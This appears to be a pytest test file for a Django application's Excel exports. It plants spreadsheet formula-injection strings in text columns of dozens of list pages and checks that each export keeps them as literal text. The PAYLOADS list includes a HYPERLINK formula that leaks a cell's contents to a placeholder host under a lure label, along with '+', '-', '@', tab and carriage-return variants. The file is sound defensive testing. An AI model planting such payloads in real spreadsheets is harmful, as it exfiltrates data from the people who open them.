"""Every Excel export writes text as text: a value someone typed as a formula comes out as that literal text.

Each list page's export is opened with openpyxl after planting, in a text column the export shows, the
values a spreadsheet would otherwise evaluate (DESIGN: "Exports write text as text (never a formula)").
"""

import datetime as dt
import io

import pytest
from django.urls import URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from accounts.choices import Role
from core.exports import workbook_bytes
from core.views import ObjectListView
from tests.conftest import make_user

PAYLOADS = ['=HYPERLINK("http://x?leak="&A2,"点击查看")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]


def as_read(text: str) -> str:
    # XML turns a bare CR into LF in any .xlsx text; what matters is that the cell stays text.
    return text.replace("\r", "\n")


def text_cells(content: bytes) -> dict[str, str]:
    """Every cell of every sheet: its value -> its data type; and no formula anywhere."""
    cells = {}
    for sheet in load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    cells[cell.value] = cell.data_type
    return cells


def fit(model, field: str, text: str) -> str:
    """The text as a field of that length keeps it (a user's full name holds only 30 characters)."""
    return text[: model._meta.get_field(field).max_length]


def _user_named(name):
    from accounts.models import User

    return make_user("t-planted", Role.OFFICE, full_name=fit(User, "full_name", name))


def _plant_measurement(p):
    from tests.targets.factories import MeasurementFactory

    return str(MeasurementFactory(entered_by=_user_named(p)).entered_by)


def _plant_plan(p):
    from inspections.models import InspectionPlan
    from organizations.models import Department

    return InspectionPlan.objects.create(
        title=p, year=2015, level="municipal", department=Department.objects.get(code="zjj")
    ).title


def _plant_round(p):
    from brands import services
    from tests.brands.factories import round_data

    return services.round_create(round=round_data(title=p)).title


def _plant_scheme(p):
    from assessments import services
    from assessments.models import Scheme

    scheme = services.scheme_create(year=2015, user=_user_named("办公室"))
    Scheme.objects.filter(pk=scheme.pk).update(title=p)
    return p


def _plant_run(p):
    from tests.dashboards.factories import StatsRunFactory

    return str(StatsRunFactory(started_by=_user_named(p)).started_by)


def _plant_holiday(p):
    from complaints.models import CalendarDay

    # The page shows the current year's days.
    day = CalendarDay.objects.filter(date__year=timezone.localdate().year).first()
    CalendarDay.objects.filter(pk=day.pk).update(name=p)
    return p


def _plant_job(p):
    from accounts.models import User
    from core.models import Job

    # The list shows the signed-in user's own jobs: the office user's, as the test downloads it.
    return Job.objects.create(
        kind="inspections.import", name=p, user=User.objects.get(username="t-office")
    ).name


def _plant_rating(p):
    from credit.models import CreditRating
    from tests.dashboards.factories import StatsRunFactory
    from tests.factories import EnterpriseFactory

    enterprise = EnterpriseFactory(name=p[:120])
    run = StatsRunFactory()
    CreditRating.objects.create(
        run=run, period="2016", enterprise=enterprise, region=enterprise.region, grade="A", score=100
    )
    return enterprise.name


def _plant_incident(p):
    from incidents import services
    from incidents.models import Incident
    from organizations.models import Region

    title = fit(Incident, "title", p)
    incident = Incident(
        title=title,
        occurred_on=dt.date(2015, 3, 1),
        region=Region.objects.get(code="211103"),
        domain="food",
        grade="general",
        summary="x",
    )
    services.incident_save(incident=incident)
    return title


def _credit_unit(name: str, **extra):
    """Created as it is written: the service's clean-up of the name (spaces) would change the payload."""
    from construction.models import ResponsibleUnit
    from organizations.models import Department
    from organizations.uscc import make_uscc

    return ResponsibleUnit.objects.create(
        name=fit(ResponsibleUnit, "name", name),
        uscc=make_uscc("91211100ME0000001"),
        kind="contractor",
        department=Department.objects.get(code="zjw"),
        **extra,
    )


def _plant_unit(p):
    from construction.models import ResponsibleUnit

    return _credit_unit("测试", qualification=fit(ResponsibleUnit, "qualification", p)).qualification


def _credit_project(name: str):
    from construction import services
    from construction.models import Project
    from organizations.models import Department, Region

    project = Project(
        name=name,
        code="X-1",
        region=Region.objects.get(code="211103"),
        department=Department.objects.get(code="zjw"),
    )
    return services.project_save(project=project)


def _plant_project(p):
    from construction.models import Project

    return _credit_project(fit(Project, "name", p)).name


def _credit_ranking(notes: str = ""):
    from construction import services
    from construction.models import Ranking
    from organizations.models import Department

    ranking = Ranking(year=2015, department=Department.objects.get(code="zjw"), notes=notes)
    return services.ranking_save(ranking=ranking)


def _plant_ranking(p):
    return _credit_ranking(p).notes


def _plant_score(p):
    from construction import services
    from construction.models import UnitScore

    unit = _credit_unit(p)
    services.score_save(score=UnitScore(ranking=_credit_ranking(), unit=unit, inspection_score=90))
    return unit.name


def _plant_deposit(p):
    from construction import services
    from construction.models import Deposit, Project

    project = _credit_project(fit(Project, "name", p))
    services.deposit_save(deposit=Deposit(project=project, amount_due=1))
    return project.name


def _update(model_path: str, lookup: dict, **values):
    def plant(p):
        from django.apps import apps

        model = apps.get_model(model_path)
        (field,) = values
        assert model.objects.filter(**lookup).update(**{field: fit(model, field, p)}) == 1
        return fit(model, field, p)

    return plant


def _factory(path: str, field: str, **extra):
    def plant(p):
        import importlib

        module, name = path.rsplit(".", 1)
        factory = getattr(importlib.import_module(module), name)
        text = fit(factory._meta.model, field, p)
        factory(**{field: text}, **extra)
        return text

    return plant


def _plant_issue18(kind: str):
    """A survey, campaign, case, plan or plan item whose text column holds the payload (issue 18)."""

    def plant(p):
        from campaigns.models import Campaign, Case
        from organizations.models import Department, Region
        from plans.models import Plan, PlanItem
        from surveys.models import Survey

        county, zjj = Region.objects.get(code="211103"), Department.objects.get(code="zjj")
        if kind == "survey":
            return Survey.objects.create(
                year=2015,
                sector="housing",
                region=county,
                department=zjj,
                title=fit(Survey, "title", p),
                method="phone",
                sample_size=10,
                agency="机构",
                result=80,
            ).title
        if kind in ("campaign", "case"):
            campaign = Campaign.objects.create(
                name=fit(Campaign, "name", p),
                kind="special",
                lead=zjj,
                starts_on=dt.date(2015, 1, 1),
                ends_on=dt.date(2015, 12, 31),
            )
            if kind == "campaign":
                return campaign.name
            case = Case.objects.create(
                campaign=campaign,
                region=county,
                cause=fit(Case, "cause", p),
                product="x",
                opened_on=dt.date(2015, 3, 1),
            )
            return case.cause
        plan = Plan.objects.create(year=2015, title=fit(Plan, "title", p))
        if kind == "plan":
            return plan.title
        return PlanItem.objects.create(
            plan=plan, number=1, task=p, lead_region=county, deadline=dt.date(2015, 6, 30), output="x"
        ).task

    return plant


SOON = timezone.localdate() + dt.timedelta(days=10)

# Every list page with an Excel export, and how to put a text into a column its export shows.
PLANTS = {
    "/org/regions/": _update("organizations.Region", {"code": "211103"}, name=True),
    "/org/departments/": _update("organizations.Department", {"code": "zjw"}, name=True),
    "/org/enterprises/": _factory("tests.factories.EnterpriseFactory", "address"),
    "/targets/measurements/": _plant_measurement,
    "/inspections/results/": _factory("tests.inspections.factories.SpotCheckResultFactory", "product_name"),
    "/inspections/plans/": _plant_plan,
    "/inspections/inspectors/": _factory("tests.inspections.factories.InspectorFactory", "name"),
    "/inspections/acceptance/": _factory(
        "tests.inspections.factories.AcceptanceRecordFactory", "project_name"
    ),
    "/inspections/classes/": _update("inspections.ProductClass", {"code": "food"}, name=True),
    "/brands/awards/": _factory("tests.brands.factories.AwardFactory", "certificate_no"),
    "/brands/awards/expiring/": _factory(
        "tests.brands.factories.AwardFactory",
        "certificate_no",
        valid_from=SOON - dt.timedelta(days=700),
        valid_until=SOON,
        year=SOON.year - 2,
    ),
    "/brands/award-types/": _update("brands.AwardType", {"code": "liaoning_brand"}, awarding_body=True),
    "/brands/experts/": _factory("tests.brands.factories.ExpertFactory", "organisation"),
    "/brands/rounds/": _plant_round,
    "/complaints/": _factory("tests.complaints.factories.ComplaintFactory", "subject"),
    "/complaints/overdue/": _factory(
        "tests.complaints.factories.ComplaintFactory",
        "subject",
        received_at=dt.datetime(2015, 3, 2, 10, tzinfo=dt.UTC),
    ),
    "/complaints/hotlines/": _update("complaints.Hotline", {"code": "12365"}, name=True),
    "/complaints/calendar/": _plant_holiday,
    "/assessments/": _plant_scheme,
    "/dashboards/runs/": _plant_run,
    "/jobs/": _plant_job,
    "/credit/penalties/": _factory("tests.credit.factories.PenaltyFactory", "cause"),
    "/credit/blacklist/": _factory("tests.credit.factories.BlacklistEntryFactory", "document"),
    "/credit/ratings/": _plant_rating,
    "/credit/rules/": _update("credit.RatingRule", {"code": "penalty_points"}, basis=True),
    "/incidents/": _plant_incident,
    "/construction/units/": _plant_unit,
    "/construction/projects/": _plant_project,
    "/construction/rankings/": _plant_ranking,
    "/construction/ranking/": _plant_score,
    "/construction/deposits/": _plant_deposit,
    "/surveys/": _plant_issue18("survey"),
    "/campaigns/": _plant_issue18("campaign"),
    "/campaigns/cases/": _plant_issue18("case"),
    "/plans/": _plant_issue18("plan"),
    "/plans/items/": _plant_issue18("item"),
    "/foundations/standards/": _factory("tests.foundations.factories.StandardFactory", "title"),
    "/foundations/agencies/": _factory("tests.foundations.factories.AgencyFactory", "scope"),
    "/foundations/metrology/": _factory("tests.foundations.factories.MetrologyFactory", "notes"),
    "/foundations/quality-staff/": _factory(
        "tests.foundations.factories.QualityStaffFactory", "chief_officer"
    ),
    "/foundations/culture-events/": _factory("tests.foundations.factories.CultureEventFactory", "organizer"),
    "/foundations/market-exits/": _factory(
        "tests.foundations.factories.MarketExitFactory", "enterprise_name"
    ),
}


def list_pages() -> set[str]:
    found = set()

    def walk(patterns, prefix=""):
        for entry in patterns:
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, prefix + str(entry.pattern))
            elif issubclass(getattr(entry.callback, "view_class", object), ObjectListView):
                found.add("/" + prefix + str(entry.pattern))

    walk(get_resolver().url_patterns)
    return found


def test_every_list_page_with_an_export_is_checked_here():
    assert list_pages() == set(PLANTS)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("path", sorted(PLANTS))
def test_list_export_keeps_formula_like_text_as_text(client_for, office_user, path, payload):
    planted = PLANTS[path](payload)
    assert planted[:1] == payload[:1]
    response = client_for(office_user).get(path, {"export": "xlsx"})
    assert response.status_code == 200, path
    cells = text_cells(response.content)
    assert cells.get(as_read(planted)) == "s", (
        f"{path}: {planted!r} not found as text in {sorted(cells)[:20]}"
    )


@pytest.mark.django_db
def test_a_masked_name_starting_with_equals_is_text_not_a_broken_formula(client_for, leader_user):
    from tests.complaints.factories import ComplaintFactory

    ComplaintFactory(complainant_name="=张三", complainant_phone="+8613812341234")
    cells = text_cells(client_for(leader_user).get("/complaints/", {"export": "xlsx"}).content)
    assert cells["=**"] == "s" and cells["+86*******1234"] == "s"


def test_workbook_keeps_numbers_numbers_and_text_exactly_text():
    content = workbook_bytes(
        [("表", ["文本", "数"], [[p, -1] for p in PAYLOADS] + [["控制\x01字符", -2.5], ["=1+1", 0]])]
    )
    sheet = load_workbook(io.BytesIO(content))["表"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [(r[0].value, r[0].data_type) for r in rows[: len(PAYLOADS)]] == [
        (as_read(p), "s") for p in PAYLOADS
    ]
    # A negative number is a number, not a text starting with "-".
    assert [(r[1].value, r[1].data_type) for r in rows] == [(-1, "n")] * len(PAYLOADS) + [
        (-2.5, "n"),
        (0, "n"),
    ]
    # A control character XML cannot hold is written as Excel writes it instead of failing the export.
    assert rows[len(PAYLOADS)][0].value == "控制_x0001_字符"
